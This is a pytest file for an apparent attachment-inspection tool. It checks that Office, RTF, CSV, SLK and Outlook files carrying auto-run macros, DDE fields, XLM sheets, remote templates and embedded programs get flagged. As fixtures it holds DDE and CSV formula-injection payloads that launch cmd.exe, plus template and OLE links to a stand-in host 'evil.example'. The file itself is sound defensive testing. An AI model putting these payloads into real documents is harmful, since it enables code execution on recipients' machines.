"""Office documents: macros, DDE, templates and objects, in every container that holds them."""

import base64
import io
import random
import struct
import zlib

import pytest
from msoffcrypto.format.ooxml import OOXMLFile

from gatepost.adapters.inspection.budget import OverBudget
from gatepost.adapters.inspection.identify import identify
from gatepost.model import traits
from gatepost.model.inspection import FileClass
from tests.adapters.inspection.documents.ole_writer import storage
from tests.adapters.inspection.documents.opening import budget, opened
from tests.adapters.inspection.documents.samples import (
    PROGRAM,
    SOURCE,
    biff,
    bound_sheet,
    commanded,
    native,
    ole1,
    package,
    pdf,
    project,
    relations,
    stream,
    sup_book,
    word,
    zipped,
)
from tests.adapters.inspection.mails import mail, walked

VBA, AUTO, XLM, DDE = traits.MACRO, traits.AUTO_MACRO, traits.XLM, traits.DDE
FIELD = "<w:document><w:instrText>{}</w:instrText></w:document>"
DDE_FIELD = b'\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" \x14\x15'
BOOK = "xl/workbook.xml"
ODT = b"application/vnd.oasis.opendocument.text"


def vba_part(**more):
    return storage(project(prefix="", **more))


def with_slides(inner):
    packed = struct.pack("<I", len(inner)) + zlib.compress(inner)
    atom = struct.pack("<HHI", 0x10, 0x1011, len(packed)) + packed
    return storage(
        {"PowerPoint Document": struct.pack("<HHI", 0xF, 0x3E8, len(atom)) + atom, "Current User": b"\0" * 30}
    )


def encrypted(members, password):
    octets = package(
        {**members, "word/media/a.bin": random.Random(1).randbytes(9000)}
    )  # the library fails at small ones
    made = io.BytesIO()
    OOXMLFile(io.BytesIO(octets)).encrypt(password, made)
    return made.getvalue()


def odt(members):
    return zipped(
        {"mimetype": ODT, "content.xml": b"<office:document-content/>", "META-INF/manifest.xml": b"<m/>", **members}, 0
    )


def mso(inner):
    return b"ActiveMime\0\0\1\xf0\4\0\0\0\xff\xff\xff\xff\0\0\7\xf0" + b"\0" * 24 + zlib.compress(inner)


SAMPLES = {
    "doc, AutoOpen": (storage({**word(), **project()}), {VBA, AUTO}),
    "doc, Document_Open": (storage({**word(), **project(SOURCE % b"Document_Open")}), {VBA, AUTO}),
    "doc, on demand": (storage({**word(), **project(SOURCE % b"Convert")}), {VBA}),
    "doc, without source": (storage({**word(), **project(b"")}), {VBA, traits.UNREADABLE}),
    "doc, broken directory": (storage({**word(), **project(directory=False)}), {VBA, AUTO}),
    "xls, Workbook_Open": (
        storage({"Workbook": biff(), **project(SOURCE % b"Workbook_Open", "_VBA_PROJECT_CUR/")}),
        {VBA, AUTO},
    ),
    "xls of 1995, Auto_Open": (
        storage({"Book": biff(), **project(SOURCE % b"Auto_Open", "_VBA_PROJECT/")}),
        {VBA, AUTO},
    ),
    "ppt, in a deflated object": (with_slides(vba_part()), {VBA, AUTO}),
    "docm": (package({"word/vbaProject.bin": vba_part()}), {VBA, AUTO}),
    "docx, project renamed": (package({"word/media/image1.png": vba_part()}), {VBA, AUTO}),
    "docx, only declared": (package(types='<Default ContentType="application/vnd.ms-office.vbaProject"/>'), {VBA}),
    "xlsm": (package({"xl/vbaProject.bin": vba_part(source=SOURCE % b"Workbook_Open")}, main=BOOK), {VBA, AUTO}),
    "pptm, ribbon": (
        package({"ppt/vbaProject.bin": vba_part(), "customUI/customUI14.xml": '<customUI onLoad="Go"/>'}),
        {VBA, AUTO},
    ),
    "xlam, ActiveX event": (package({"xl/v.bin": vba_part(source=SOURCE % b"Ink1_Painted")}, main=BOOK), {VBA, AUTO}),
    "macros of an MHT": (mso(storage(project())), {VBA, AUTO}),
    "Word 2003 XML": (
        b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument w:macrosPresent="yes">'
        b'<w:binData w:name="editdata.mso">'
        + base64.b64encode(mso(storage(project())))
        + b"</w:binData></w:wordDocument>",
        {VBA, AUTO},
    ),
    "odt, Basic": (odt({"Basic/Standard/M.xml": b"<script:module>Sub Main"}), {VBA}),
    "odt, Basic when loaded": (
        odt(
            {
                "Basic/Standard/M.xml": b"<script:module>Sub Main",
                "content.xml": b'<o><script:event-listener script:event-name="dom:load"/></o>',
            }
        ),
        {VBA, AUTO},
    ),
    "doc, DDE": (storage(word(DDE_FIELD)), {DDE}),
    "doc, DDE in UTF-16": (storage(word(DDE_FIELD.decode("latin-1").encode("utf-16-le"))), {DDE}),
    "docx, DDE": (package(content=FIELD.format("DDEAUTO c:\\\\cmd.exe")), {DDE}),
    "docx, DDE in pieces": (
        package(content=FIELD.format("D</w:instrText></w:r><w:r><w:instrText>DEAU</w:instrText><w:instrText>TO cmd")),
        {DDE},
    ),
    "docx, simple field in a footer": (
        package({"word/footer1.xml": "<w:ftr><w:fldSimple w:instr=' DDE cmd \"/c calc\" '/></w:ftr>"}),
        {DDE},
    ),
    "xls, DDE": (storage({"Workbook": biff(sup_book(b"cmd\x03/c calc"))}), {DDE}),
    "xlsx, DDE": (
        package(
            {"xl/externalLinks/externalLink1.xml": '<e><ddeLink ddeService="cmd" ddeTopic="/c calc"/></e>'}, main=BOOK
        ),
        {DDE},
    ),
    "Excel 2003 XML, DDE": (
        b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns:ss="urn:x"><Worksheet><Table>'
        b"<Row><Cell ss:Formula=\"=cmd|'/c calc.exe'!A1\"/></Row></Table></Worksheet></Workbook>",
        {DDE},
    ),
    "Excel 2003 XML, DDE of another workbook": (
        b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook><SupBook>'
        b"<Path>cmd|/c calc.exe</Path></SupBook></Workbook>",
        {DDE},
    ),
    "ods, DDE": (
        odt({"content.xml": b'<o><office:dde-source office:dde-application="cmd" office:dde-topic="x"/></o>'}),
        {DDE},
    ),
    "csv, DDE": (b"name,value\r\nx,\"=cmd|'/c calc'!A0\"\r\n", {DDE}),
    "csv, DDE behind a sum": (b"name;value\r\nx;@SUM(1+1)*cmd|'/c calc'!A0\r\n", {DDE}),
    "slk, DDE": (b"ID;PWXL;N;E\r\nC;Y1;X1;K0;Ecmd|'/c calc'!A0\r\n", {DDE}),
    "slk, macro sheet": (b'ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;Y1;X1;EEXEC("calc")\r\n', {XLM, AUTO}),
    "rtf, DDE": (b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe}}}", {DDE}),
    "xls, XLM": (storage({"Workbook": biff(bound_sheet(0, 1))}), {XLM}),
    "xls, XLM very hidden": (
        storage({"Workbook": biff(bound_sheet(2, 1), (0x18, b"\x20" + b"\0" * 14 + b"\1"))}),
        {XLM, AUTO},
    ),
    "xlsm, XLM": (package({"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"}, main=BOOK), {XLM}),
    "xlsm, XLM when opened": (
        package(
            {"xl/macrosheets/intl.xml": "<m/>"},
            main=BOOK,
            content='<workbook><definedName name="_xlnm.Auto_Open">x</definedName></workbook>',
        ),
        {XLM, AUTO},
    ),
    "xlsb, XLM only declared": (
        package(types='<Override ContentType="application/vnd.ms-excel.macrosheet"/>', main=BOOK),
        {XLM},
    ),
    "docm that Excel's own password opens": (
        encrypted({"word/vbaProject.bin": vba_part()}, "VelvetSweatshop"),
        {VBA, AUTO, traits.DECRYPTED},
    ),
    "rtf, VBA in an object": (
        b"{\\rtf1{\\object{\\*\\objdata "
        + ole1("Word.Document.8", storage({**word(), **project()})).hex().encode()
        + b"}}}",
        {traits.EMBEDDED},
    ),
    "pdf, docm inside": (
        pdf(
            stream(b"/Type /EmbeddedFile", package({"word/vbaProject.bin": vba_part()})),
            b"<< /Type /Filespec /F (a.docm) /EF << /F 4 0 R >> >>",
        ),
        {traits.ATTACHED},
    ),
}
NAMES = {"csv": "a.csv", "slk": "a.slk"}


@pytest.mark.parametrize("name", SAMPLES)
def test_attach_05_what_runs_in_a_document_is_found(name):
    octets, wanted = SAMPLES[name]
    found = opened(octets, NAMES.get(name[:3], "report.bin"))
    assert wanted <= found.traits
    if wanted & {traits.EMBEDDED, traits.ATTACHED}:
        assert {VBA, AUTO} <= found.inside


def test_attach_05_there_are_27_kinds_of_it():
    assert len(SAMPLES) >= 27


@pytest.mark.parametrize(
    "octets",
    [
        package(content=FIELD.format("PAGE \\* MERGEFORMAT")),
        package(content=FIELD.format("HYPERLINK &quot;https://example.com&quot;")),
        storage(word(b"\x13 PAGE \x14\x15 the word DDE stands here")),
        storage({"Workbook": biff(bound_sheet(0, 0), bound_sheet(1, 6))}),
        odt({}),
        b"{\\rtf1 DDE is a word}",
        b'ID;PWXL\r\nC;Y1;X1;K"a|b"\r\n',
        package({"xl/printerSettings/printerSettings1.bin": b"\0" * 900}, main=BOOK),
        package({"_rels/a.rels": relations(("hyperlink", "https://example.com/", "External"))}),
        package(
            {
                "word/_rels/settings.xml.rels": relations(
                    ("attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm", "External")
                )
            }
        ),
        package({"ppt/embeddings/Microsoft_Excel_Sheet.xlsx": package(main=BOOK)}, main="ppt/presentation.xml"),
    ],
)
def test_an_honest_document_has_none_of_it(octets):
    assert not opened(octets, "report.bin").traits


def test_the_source_is_given_for_matching():
    found = opened(storage({**word(), **project(b'Attribute VB_Name = "M"\r\n' + b"x = Shell(y)\r\n" * 900)}))
    assert not found.members, "source is no file that a recipient could open"
    assert VBA in found.traits


# ── what is fetched ──────────────────────────────────────────────────────────
@pytest.mark.parametrize(
    ("kind", "target", "host"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm", "evil.example"),
        ("oleObject", "mhtml:http://evil.example/x!y", "evil.example"),
        ("frame", "http://evil.example/", "evil.example"),
        ("attachedTemplate", "\\\\evil.example\\s\\t.dotm", "evil.example"),
        ("image", "file://evil.example/s/a.png", "evil.example"),
        ("subDocument", "http:\\\\evil.example/x", "evil.example"),
        ("attachedTemplate", "h&#116;tp://a@evil.example/", "evil.example"),
    ],
)
def test_attach_13_what_a_document_fetches_is_named_by_its_host(kind, target, host):
    octets = package({"word/_rels/settings.xml.rels": relations((kind, target, "External"))})
    found = opened(octets, "report.docx")
    assert any(trait.code == traits.REMOTE_TEMPLATE and host in trait.detail for trait in found.details)
    assert traits.REMOTE_TEMPLATE in opened(octets.replace(b"/word/", b"/word/"), "a.txt").traits


@pytest.mark.parametrize("target", ["file://localhost/Users/ann/a.png", "file:///C:/a.png", "C:\\a.png", "../a.png"])
def test_a_picture_of_the_readers_own_disk_is_fetched_from_nobody(target):
    octets = package({"word/_rels/document.xml.rels": relations(("image", target, "External"))})
    assert traits.REMOTE_TEMPLATE not in opened(octets, "report.docx").traits


def test_attach_13_a_template_of_a_word_document_of_1997_is_found():
    text = "https://evil.example/t.dot"
    strings = b"\xff\xff\x02\0\0\0" + b"\0\0" + struct.pack("<H", len(text)) + text.encode("utf-16-le")
    streams = word(more={"0Table": strings})
    document = bytearray(streams["WordDocument"])
    document[0x19A:0x1A2] = struct.pack("<II", 0, len(strings))
    assert traits.REMOTE_TEMPLATE in opened(storage({**streams, "WordDocument": bytes(document)})).traits


def test_attach_13_a_linked_object_is_found_by_its_moniker():
    link = b"\1\0\0\2" + b"\0" * 30 + "http://evil.example/a.hta".encode("utf-16-le") + b"\0\0"
    found = opened(storage({"\x01Ole": link, "x": b"y"}))
    assert [trait.detail for trait in found.details] == ["linked object: evil.example"]


def test_attach_13_cells_of_another_workbook_are_no_template():
    part = {
        "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
            ("externalLinkPath", "https://share.example/b.xlsx", "External")
        )
    }
    assert opened(package(part, main=BOOK)).traits == {traits.REMOTE}


@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", "[Content_Types].xml", "_rels/.rels"])
@pytest.mark.parametrize("charset", ["utf-8", "utf-16"])
def test_attach_13_xml_with_entities_is_said_and_not_expanded(part, charset):
    bomb = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>' + "<x>&b;</x>"
    octets = package({part: bomb.encode(charset), "xl/y": "z"})
    assert traits.ENTITIES in opened(octets, "a.docx").traits


def test_attach_13_a_part_that_is_a_bomb_ends_at_the_budget():
    octets = package(content="<w:instrText>" + " " * 60_000_000)
    with pytest.raises(OverBudget, match="ratio"):
        opened(octets, "a.docx", within=budget())


def test_a_broken_part_does_not_hide_the_others():
    octets = bytearray(package({"word/vbaProject.bin": vba_part()}))
    at = octets.find(b"word/document.xml") + len("word/document.xml")
    octets[at : at + 4] = b"\xff\xff\xff\xff"
    assert {VBA, AUTO, traits.UNREADABLE} <= opened(bytes(octets), "a.docm").traits


# ── what is inside ───────────────────────────────────────────────────────────
def test_an_ole_package_is_given_with_its_name():
    inner = storage({"\x01Ole10Native": native("order.exe", PROGRAM)})
    for octets in (
        inner,
        package({"word/embeddings/oleObject1.bin": inner}),
        storage({"ObjectPool/_1/\x01Ole10Native": native("a.exe", PROGRAM)}),
    ):
        found = opened(octets, "a.docx")
        assert traits.EMBEDDED in found.traits
        assert FileClass.EXECUTABLE in found.classes


@pytest.mark.parametrize("label", ["order.pdf", ""])
def test_a_package_that_starts_a_program_is_told_by_what_it_starts(label):
    octets = storage({"ObjectPool/_1/\x01Ole10Native": commanded(label, "C:\\Windows\\System32\\cmd.exe")})
    found = opened(octets, "a.doc")
    inside = [(member.name, member.octets, [trait.code for trait in member.traits]) for member in found.members]
    assert inside == [("C:\\Windows\\System32\\cmd.exe", b"", [traits.COMMAND])]
    whole = walked(mail(("a.doc", octets))).items[2]
    assert {FileClass.EXECUTABLE, FileClass.OFFICE_ACTIVE} <= set(whole.classes)


def test_an_object_that_is_deflated_within_an_xml_document_is_given():
    inner = storage({"\x01Ole10Native": native("order.exe", PROGRAM)})
    data = storage({"_1577691300": struct.pack("<I", len(inner)) + zlib.compress(inner)})
    octets = (
        b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument>'
        b'<w:binData w:name="oledata.mso">' + base64.b64encode(data) + b"</w:binData></w:wordDocument>"
    )
    assert [member.octets for member in opened(octets, "a.doc").members] == [PROGRAM]


def test_a_program_in_an_installer_or_a_package_is_given():
    assert [member.octets for member in opened(storage({"Binary.x": PROGRAM})).members] == [PROGRAM]
    found = opened(package({"word/media/image1.png": PROGRAM, "word/run.ps1": b"iex x"}), "a.docx")
    assert {member.name for member in found.members} == {"word/media/image1.png", "word/run.ps1"}
    assert traits.EMBEDDED in found.traits


def test_attachments_and_words_of_an_outlook_message_are_given():
    place = "__attach_version1.0_#00000000/__substg1.0_"
    octets = storage(
        {
            "__properties_version1.0": b"\0" * 32,
            "__substg1.0_1000001F": "The password is hello".encode("utf-16-le"),
            "__substg1.0_10130102": b"<html><script>x</script></html>",
            place + "37010102": PROGRAM,
            place + "3707001F": "invoice.pdf.exe".encode("utf-16-le"),
            place + "370E001F": "application/pdf".encode("utf-16-le"),
        }
    )
    found = opened(octets, "a.msg")
    assert [(member.name, member.declared) for member in found.members] == [("invoice.pdf.exe", "application/pdf")]
    assert {traits.DOUBLE_EXTENSION} <= found.inside
    assert FileClass.MESSAGE in found.classes


def test_names_of_properties_are_no_body_of_an_outlook_message():
    """Some of their streams have the number of a body."""
    streams = {"__properties_version1.0": b"\0" * 32, "__nameid_version1.0/__substg1.0_10090102": b"\x18\x85\0\0" * 4}
    assert opened(storage(streams), "a.msg").traits == set()


def test_a_body_that_cannot_be_read_hides_no_attachment_of_an_outlook_message():
    streams = {
        "__properties_version1.0": b"\0" * 32,
        "__substg1.0_10090102": b"no compressed RTF at all",
        "__attach_version1.0_#00000000/__substg1.0_37010102": PROGRAM,
    }
    found = opened(storage(streams), "a.msg")
    assert (found.traits, [member.octets for member in found.members]) == ({traits.UNREADABLE}, [PROGRAM])


# ── with passwords ───────────────────────────────────────────────────────────
def test_an_encrypted_document_is_opened_by_a_word_of_the_message():
    octets = encrypted({"word/vbaProject.bin": vba_part()}, "orchid7")
    assert opened(octets, "a.docx").traits == {traits.ENCRYPTED}
    assert {VBA, AUTO, traits.DECRYPTED} <= opened(octets, "a.docx", passwords=("hello", "orchid7")).traits


def test_an_encrypted_word_document_of_1997_is_said_to_be():
    assert opened(storage(word(flags=1))).traits == {traits.ENCRYPTED}
    assert traits.ENCRYPTED in opened(storage({"Workbook": biff((0x2F, b"\1\0" + b"\0" * 52))})).traits


def test_rounds_of_a_hash_are_bounded():
    info = b"\4\0\4\0\x40\0\0\0" + b'<encryption><p:encryptedKey spinCount="9999999" /></encryption>'
    octets = storage({"EncryptionInfo": info, "EncryptedPackage": b"\0" * 5000})
    assert opened(octets, "a.docx", passwords=("a",) * 100).traits == {traits.ENCRYPTED}
    octets = storage({"EncryptionInfo": info.replace(b"<enc", b"<!DOCTYPE x><enc"), "EncryptedPackage": b"\0" * 5000})
    assert opened(octets, "a.docx").traits == {traits.ENCRYPTED, traits.ENTITIES}


@pytest.mark.parametrize("make", [lambda: package({"a": "b"}, main=BOOK), lambda: odt({})])
def test_a_package_that_programs_unpack_differently_is_inconsistent(make):
    octets = make()
    assert traits.INCONSISTENT not in opened(octets, "a.docx").traits
    assert (
        traits.INCONSISTENT
        in opened(b"prefix" + octets, "a.docx").traits | opened(octets + b"PK\5\6" + b"\0" * 18, "").traits
    )
    at = octets.rfind(b"content.xml" if b"content.xml" in octets else b"xl/workbook.xml")
    assert traits.INCONSISTENT in opened(octets[:at] + b"X" + octets[at + 1 :], "a.docx").traits


def test_an_mht_is_read_as_mail_whatever_its_name_is():
    octets = (
        b"From: <Saved>\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b--"
    )
    for name in ("a.mht", "a.doc", "a.xls", "a"):
        assert "rfc822" in identify(octets, (name,), "application/octet-stream").formats
    assert "rfc822" in identify(b"hello", ("a.mht",), "").formats


@pytest.mark.parametrize(
    "part",
    [b"<html><script>x</script></html>", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\nx", b"{\\rtf1 x}"],
)
def test_a_page_that_word_takes_in_is_given(part):
    assert part in [member.octets for member in opened(package({"word/afchunk.dat": part}), "a.docx").members]
